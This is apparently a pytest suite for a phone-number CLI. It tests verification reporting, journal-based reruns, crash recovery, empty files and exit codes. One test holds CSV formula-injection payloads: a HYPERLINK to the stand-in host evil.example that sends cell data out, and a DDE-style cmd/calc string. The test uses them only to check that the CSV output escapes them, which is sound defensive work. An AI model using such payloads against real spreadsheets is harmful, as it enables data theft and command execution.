"""`sinch-qn text-enable` and `sinch-qn imported import` on messy input: a number never fails
for another's fault, numbers not verified and numbers already done are reported apart (not
sent, not failures), reruns send nothing twice and call nothing "in flight" that the service
refused, a journal cut short by a crash resumes twice, and an empty file is no error."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from sinch_qualified_numbers_sandbox import DEFAULT_PROJECT_ID, PortServer

from ..conftest import seed_numbers
from .conftest import env_for, run

TEXT_ENABLE = ["--service-plan-id", "p", "--loa", "blanket", "-o", "json"]
NOT_VERIFIED = {
    "+12025551007": "NOT_ELIGIBLE",
    "+12025551150": "VERIFICATION_FAILED",
    "+12025551299": "ELIGIBLE",
}


def _file(tmp_path: Path, numbers: list[str]) -> Path:
    file = tmp_path / "numbers.txt"
    file.write_text("\n".join(numbers) + "\n")
    return file


def _rows(stdout: str) -> dict[str, dict[str, Any]]:
    return {row["phoneNumber"]: row for row in json.loads(stdout)}


def _submissions(sandbox: PortServer) -> dict[str, int]:
    return sandbox.sandbox.hosting_orders.submissions(DEFAULT_PROJECT_ID)


def _seed(sandbox: PortServer, numbers: list[str]) -> None:
    seed_numbers(sandbox.url, [n for n in numbers if n not in NOT_VERIFIED])
    for number, state in NOT_VERIFIED.items():
        seed_numbers(sandbox.url, [number], state)


@pytest.mark.parametrize("size", [300, 1100])  # one call (refusals tell), three (a listing)
def test_only_verified_numbers_are_sent_and_the_others_are_reported_with_their_state(
    sandbox: PortServer, tmp_path: Path, size: int
) -> None:
    numbers = [f"+1202555{i:04d}" for i in range(1000, 1000 + size)]
    _seed(sandbox, numbers)
    result = run(
        ["text-enable", "--file", str(_file(tmp_path, numbers)), *TEXT_ENABLE], env_for(sandbox)
    )
    assert result.exit_code == 0, result.output
    rows = _rows(result.stdout)
    assert {n: (r["result"], r["reason"]) for n, r in rows.items() if n in NOT_VERIFIED} == {
        n: ("not verified", state) for n, state in NOT_VERIFIED.items()
    }
    assert {r["result"] for n, r in rows.items() if n not in NOT_VERIFIED} == {"enabled"}
    assert len(rows) == size
    assert set(_submissions(sandbox)) == set(numbers) - set(NOT_VERIFIED)
    assert set(_submissions(sandbox).values()) == {1}
    said = " ".join(result.output.split())
    assert (
        "3 numbers are not verified (NOT_ELIGIBLE 1, VERIFICATION_FAILED 1, ELIGIBLE 1): "
        "not sent, not failures" in said
    )
    assert not (tmp_path / "numbers.txt.failures.csv").exists()


@pytest.mark.parametrize("size", [300, 1100])
def test_a_number_whose_hosting_failed_is_labelled_so_not_not_verified(
    sandbox: PortServer, tmp_path: Path, size: int
) -> None:
    numbers = [f"+1202555{i:04d}" for i in range(1000, 1000 + size)]
    _seed(sandbox, numbers)
    seed_numbers(sandbox.url, ["+12025551010"], "HOSTING_FAILED")
    file = _file(tmp_path, numbers)
    env = env_for(sandbox)
    for _ in range(2):  # the run, and a rerun (from its journal)
        result = run(["text-enable", "--file", str(file), *TEXT_ENABLE], env)
        assert result.exit_code == 0, result.output
        row = _rows(result.stdout)["+12025551010"]
        assert (row["result"], row["reason"]) == ("hosting failed", "HOSTING_FAILED")
        said = " ".join(result.output.split())
        assert "1 numbers are hosting failed" in said
        assert "HOSTING_FAILED" not in said.split("not verified (")[1].split(")")[0]
    assert "+12025551010" not in _submissions(sandbox)


def test_a_refused_number_is_journaled_refused_and_a_rerun_never_calls_it_in_flight(
    sandbox: PortServer, tmp_path: Path
) -> None:
    numbers = [f"+1202555{i:04d}" for i in range(1000, 1300)]
    _seed(sandbox, numbers)
    file = _file(tmp_path, numbers)
    env = env_for(sandbox)
    first = run(["text-enable", "--file", str(file), *TEXT_ENABLE], env)
    assert first.exit_code == 0, first.output
    journal = tmp_path / "numbers.txt.journal.jsonl"
    refused = [json.loads(line) for line in journal.read_text().splitlines()]
    refused = [e for e in refused if e["event"] == "refused"]
    assert {n for e in refused for n in e["numbers"]} == set(NOT_VERIFIED)
    for entry in refused:  # each with its own reason, never another number's
        assert {NOT_VERIFIED[n] for n in entry["numbers"]} == {entry["reason"]}
    # The user verifies one of them; the rerun sends it alone, and nothing else again.
    seed_numbers(sandbox.url, ["+12025551007"])
    again = run(["text-enable", "--file", str(file), *TEXT_ENABLE], env)
    assert again.exit_code == 0, again.output
    said = " ".join(again.output.split())
    assert "in flight" not in said and "3 were refused and are tried again" in said
    rows = _rows(again.stdout)
    assert rows["+12025551007"]["result"] == "enabled"
    assert {rows[n]["result"] for n in ("+12025551150", "+12025551299")} == {"not verified"}
    assert set(_submissions(sandbox).values()) == {1}
    assert "+12025551007" in _submissions(sandbox)


@pytest.mark.parametrize("size", [200, 1200])
def test_a_rerun_without_its_journal_reports_numbers_already_enabled(
    sandbox: PortServer, tmp_path: Path, size: int
) -> None:
    numbers = [f"+1202555{i:04d}" for i in range(1000, 1000 + size)]
    seed_numbers(sandbox.url, numbers)
    file = _file(tmp_path, numbers)
    env = env_for(sandbox)
    assert run(["text-enable", "--file", str(file), *TEXT_ENABLE], env).exit_code == 0
    (tmp_path / "numbers.txt.journal.jsonl").unlink()
    again = run(["text-enable", "--file", str(file), *TEXT_ENABLE], env)
    assert again.exit_code == 0, again.output
    assert {r["result"] for r in _rows(again.stdout).values()} == {"already enabled"}
    assert set(_submissions(sandbox).values()) == {1}
    said = " ".join(again.output.split())
    assert f"{size} numbers were already enabled before this run: not sent again" in said


def test_a_journal_cut_short_by_a_crash_resumes_and_resumes_again(
    sandbox: PortServer, tmp_path: Path
) -> None:
    numbers = [f"+1202555{i:04d}" for i in range(1000, 1020)]
    seed_numbers(sandbox.url, numbers)
    file = _file(tmp_path, numbers)
    journal = tmp_path / "numbers.txt.journal.jsonl"
    whole = json.dumps({"event": "submitting", "numbers": numbers[:5]}) + "\n"
    journal.write_text(whole + '{"event": "enabled", "numb')  # the crash cut this line
    env = env_for(sandbox)
    first = run(["text-enable", "--file", str(file), *TEXT_ENABLE], env)
    assert first.exit_code == 0, first.output
    assert "line 2 was cut short" in " ".join(first.output.split())
    second = run(["text-enable", "--file", str(file), *TEXT_ENABLE], env)
    assert second.exit_code == 0, second.output
    assert "changed by hand" not in second.output
    assert {r["result"] for r in _rows(second.stdout).values()} == {"enabled"}
    assert "20 numbers already enabled" in " ".join(second.output.split())
    assert all(line.startswith("{") for line in journal.read_text().splitlines())
    assert set(_submissions(sandbox).values()) == {1}


@pytest.mark.parametrize(
    "command",
    [["text-enable", *TEXT_ENABLE], ["imported", "import", "--service-plan-id", "p"]],
)
def test_an_empty_file_is_a_clear_message_and_exit_0(
    sandbox: PortServer, tmp_path: Path, command: list[str]
) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_text("")
    result = run([*command, "--file", str(empty)], env_for(sandbox))
    assert result.exit_code == 0, result.output
    assert "has no numbers: nothing to" in " ".join(result.output.split())
    assert not _submissions(sandbox)


def test_an_import_rerun_reports_numbers_already_imported(
    sandbox: PortServer, tmp_path: Path
) -> None:
    numbers = [f"+1202555{i:04d}" for i in range(3000, 3012)]
    env = env_for(sandbox)
    first_file = tmp_path / "first.txt"
    first_file.write_text("\n".join(numbers[::3]) + "\n")
    command = ["imported", "import", "--service-plan-id", "p", "-o", "json", "--file"]
    assert run([*command, str(first_file)], env).exit_code == 0
    result = run([*command, str(_file(tmp_path, numbers))], env)
    assert result.exit_code == 0, result.output
    rows = _rows(result.stdout)
    assert {n for n, r in rows.items() if r["result"] == "already imported"} == set(numbers[::3])
    assert {n for n, r in rows.items() if r["result"] == "imported"} == (
        set(numbers) - set(numbers[::3])
    )
    assert "4 numbers were already imported before this run" in " ".join(result.output.split())


def test_the_failures_file_neutralises_formulas_and_keeps_numbers_as_they_are(
    tmp_path: Path,
) -> None:
    """A reason quoted from the service can start with `=` (or `@`, `+`, `-`): the failures
    file, like every CSV the CLI writes, makes it plain text for a spreadsheet; the E.164
    numbers stay as they are."""
    import csv
    import io

    from rich.console import Console

    from sinch_qualified_numbers import QualifiedNumbersError
    from sinch_qualified_numbers.cli._journal import Journal
    from sinch_qualified_numbers.cli._order_runs import (
        OrderRun,
        RunOutput,
        Settled,
        Summary,
        in_blocks,
        run_orders,
    )

    numbers = ["+12025551000", "+12025551001"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'

    def place(todo: list[str], on_start: Any, on_done: Any) -> None:
        on_start(todo)
        on_done(
            Settled(
                todo,
                failed={todo[0]: QualifiedNumbersError(formula)},
                unknown={todo[1]: QualifiedNumbersError("@SUM(1+1)*cmd|' /C calc'!A0")},
            )
        )

    failures = tmp_path / "numbers.txt.failures.csv"
    output = RunOutput(Journal(tmp_path / "journal.jsonl"), failures, Console(file=io.StringIO()))
    run = OrderRun(in_blocks(numbers), 500, place, lambda in_flight: ([], {}), output)
    summary = run_orders(run, Summary("enabled"))
    assert (summary.failed, summary.unknown) == (1, 1)
    with failures.open(newline="") as fh:
        rows = {row["phoneNumber"]: row for row in csv.DictReader(fh)}
    assert list(rows) == numbers  # E.164 numbers left as they are (no leading ')
    assert rows[numbers[0]]["result"] == "failed"
    assert rows[numbers[0]]["reason"] == "'" + formula
    assert rows[numbers[1]]["result"] == "unknown"
    assert rows[numbers[1]]["reason"].startswith("'@SUM(1+1)")


@pytest.mark.parametrize(
    "command",
    [
        ["text-enable", *TEXT_ENABLE],
        ["imported", "import", "--service-plan-id", "p", "-o", "json"],
        ["add", "-o", "json"],
    ],
)
def test_rejected_rows_exit_1_however_well_the_valid_numbers_went(
    sandbox: PortServer, tmp_path: Path, command: list[str]
) -> None:
    # One exit code rule for every command reading a file of numbers (docs/cli.md): rows
    # rejected is 1, so a script under `set -e` sees the file was not taken whole.
    numbers = ["+12025553000", "+12025553001"]
    _seed(sandbox, numbers)
    file = tmp_path / "numbers.csv"
    file.write_text("phoneNumber\n(202) 555-3000\nN/A\n+1 202 555 3001\n")
    result = run([*command, "--file", str(file)], env_for(sandbox))
    assert result.exit_code == 1, result.output
    assert "'N/A'" in result.output
    assert set(_rows(result.stdout)) == set(numbers)
